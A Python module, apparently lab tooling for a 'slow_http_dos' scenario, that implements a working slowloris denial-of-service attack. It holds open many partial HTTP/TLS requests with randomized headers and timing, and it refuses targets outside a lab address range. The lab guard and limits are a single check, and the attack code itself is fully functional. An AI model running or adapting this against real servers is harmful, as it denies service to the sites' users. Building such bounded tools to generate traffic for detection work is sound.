"""A slowloris written here: held-out tooling for `slow_http_dos`, with its own timing.

It opens up to `--connections` connections to a lab web server at `--rate` per second
(TLS on port 443), sends an incomplete request, then one more header line per
connection every `--interval` seconds (with ±30 % jitter), and stops after `--seconds`.
Only lab addresses are accepted; every socket is closed at the end.

    ip netns exec el-1-att python -m trafficlab.slowloris 10.77.0.36 --connections 500 \\
        --rate 50 --interval 2 --seconds 20
"""
from __future__ import annotations

import argparse
import ipaddress
import random
import socket
import ssl
import sys
import time

from trafficlab.topology import LAB_SPACE

AGENTS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Mozilla/5.0 (X11; Linux x86_64)",
          "curl/8.1.2", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X)")


def _connect(host: str, port: int, tls: ssl.SSLContext | None) -> socket.socket | None:
    try:
        s = socket.create_connection((host, port), timeout=2)
        if tls:
            s = tls.wrap_socket(s, server_hostname="www.lab.internal")
        s.settimeout(0.2)
        return s
    except OSError:
        return None


def attack(host: str, port: int, connections: int, rate: float, interval: float,
           seconds: float, rng: random.Random) -> dict:
    tls = None
    if port == 443:
        tls = ssl.create_default_context()
        tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    socks: list[tuple[socket.socket, float]] = []
    opened = failed = lines = 0
    t0 = time.monotonic()
    end = t0 + seconds
    while time.monotonic() < end:
        now = time.monotonic()
        while opened + failed < connections and (opened + failed) < (now - t0) * rate:
            s = _connect(host, port, tls)
            if s is None:
                failed += 1
                continue
            try:
                s.send(f"GET /?{rng.randint(0, 99999)} HTTP/1.1\r\nHost: {host}\r\n"
                       f"User-Agent: {rng.choice(AGENTS)}\r\n".encode())
                socks.append((s, now + interval * rng.uniform(0.7, 1.3)))
                opened += 1
            except OSError:
                failed += 1
        keep = []
        for s, due in socks:
            if due <= now:
                try:
                    s.send(f"X-{rng.randint(1, 5000)}: {rng.randint(1, 5000)}\r\n".encode())
                    lines += 1
                    due = now + interval * rng.uniform(0.7, 1.3)
                except OSError:
                    s.close()
                    continue
            keep.append((s, due))
        socks = keep
        time.sleep(0.02)
    for s, _ in socks:
        s.close()
    return {"opened": opened, "failed": failed, "header_lines": lines, "open_at_end": len(socks)}


def main(argv: list[str] | None = None) -> None:
    ap = argparse.ArgumentParser(description="A bounded slowloris against a lab web server.")
    ap.add_argument("host")
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--connections", type=int, required=True)
    ap.add_argument("--rate", type=float, default=50.0)
    ap.add_argument("--interval", type=float, default=2.0)
    ap.add_argument("--seconds", type=float, required=True)
    ap.add_argument("--seed", type=int, default=0)
    args = ap.parse_args(argv)
    if ipaddress.ip_address(args.host) not in LAB_SPACE:
        raise SystemExit(f"slowloris: {args.host} is outside the lab ({LAB_SPACE})")
    if not 0 < args.connections <= 20_000 or not 0 < args.seconds <= 300:
        raise SystemExit("slowloris: connections must be 1..20000 and seconds 1..300")
    out = attack(args.host, args.port, args.connections, args.rate, args.interval, args.seconds,
                 random.Random(args.seed))
    print(f"slowloris: {out}", flush=True)


if __name__ == "__main__":
    sys.exit(main())
